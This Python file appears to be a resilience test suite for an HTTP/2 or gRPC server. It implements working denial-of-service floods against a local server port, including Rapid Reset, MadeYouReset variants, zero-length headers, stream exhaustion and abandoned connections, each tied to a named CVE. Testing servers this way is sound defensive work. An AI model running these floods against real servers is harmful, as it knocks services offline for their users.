"""Streams that are opened to be thrown away."""

import socket
import struct
import time

from attack_tools import DUPLEX, EMPTY, StaticBlock, UNARY, flood
from wire import DATA, END_STREAM, PRIORITY, Wire, frame, headers_frames, message, rst, window_update


def rapid_reset(server):
    """CVE-2023-44487."""
    with Wire(server.port) as wire:
        request = StaticBlock(wire, DUPLEX)

        def make():
            stream, frames = request(wire)
            return frames + rst(stream)

        return flood(wire, make, rounds=100, batch=100)


def made_you_reset(name, make_bad):
    """CVE-2025-8671: the client's mistakes make the server reset."""

    def attack(server):
        with Wire(server.port) as wire:
            request = StaticBlock(wire, DUPLEX)

            def make():
                stream, frames = request(wire)
                return frames + make_bad(stream)

            return flood(wire, make, rounds=200, batch=50)

    attack.__name__ = name
    return attack


made_you_reset_zero_increment = made_you_reset(
    "made_you_reset_zero_increment", lambda stream: window_update(stream, 0))
made_you_reset_overflow = made_you_reset(
    "made_you_reset_overflow", lambda stream: window_update(stream, 0x7FFFFFFF) * 2)
made_you_reset_bad_priority = made_you_reset(
    "made_you_reset_bad_priority", lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1)))
made_you_reset_closed_data = made_you_reset(
    "made_you_reset_closed_data", lambda stream: frame(DATA, END_STREAM, stream, message()) + frame(DATA, 0, stream, b"more"))


def made_you_reset_content_length(server):
    with Wire(server.port) as wire:
        request = StaticBlock(wire, UNARY, extra=[("content-length", "1")])

        def make():
            stream, frames = request(wire)
            return frames + frame(DATA, END_STREAM, stream, message(b"more than one byte"))

        return flood(wire, make, rounds=200, batch=50)


def zero_length_headers(server):
    """CVE-2019-9516."""
    with Wire(server.port) as wire:
        block = StaticBlock(wire, EMPTY).block + b"\x00\x00\x00" * 100

        def make():
            stream = wire.new_stream()
            return headers_frames(stream, block, END_STREAM)

        return flood(wire, make, rounds=200, batch=50)


def refused_requests(server):
    """Requests that are answered with an error at once, without end."""
    with Wire(server.port) as wire:
        request = StaticBlock(wire, "/nobody/nothing")
        flood(wire, lambda: request(wire)[1], rounds=40, batch=100)
        return True


def stream_exhaustion(server):
    with Wire(server.port) as wire:
        wire.pump(lambda: wire.peer_settings, 2)
        request = StaticBlock(wire, DUPLEX)
        wire.send(b"".join(request(wire)[1] for _ in range(5000)))
        wire.pump(lambda: wire.closed or wire.goaways, 2)
        refused = [s for s in wire.streams.values() if s.reset is not None]
        return bool(wire.closed or wire.goaways or len(refused) >= 4000)


def abandoned_calls(server):
    """Connections that open calls and vanish."""
    for _ in range(60):
        wire = Wire(server.port)
        request = StaticBlock(wire, DUPLEX)
        wire.send(b"".join(request(wire)[1] + frame(DATA, 0, wire.next_stream - 2, message()) for _ in range(90)))
        wire.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        wire.close()
    time.sleep(0.5)
    return server.statistics()["open"] <= 1  # an honest call may be under way


def tiny_deadlines(server):
    with Wire(server.port) as wire:
        request = StaticBlock(wire, DUPLEX, extra=[("grpc-timeout", "1n")])
        for _ in range(100):
            if not wire.send(b"".join(request(wire)[1] for _ in range(50))):
                break
            wire.pump(timeout=0.01)
        wire.pump(timeout=0.2)
    time.sleep(0.3)
    return server.statistics()["open"] <= 1
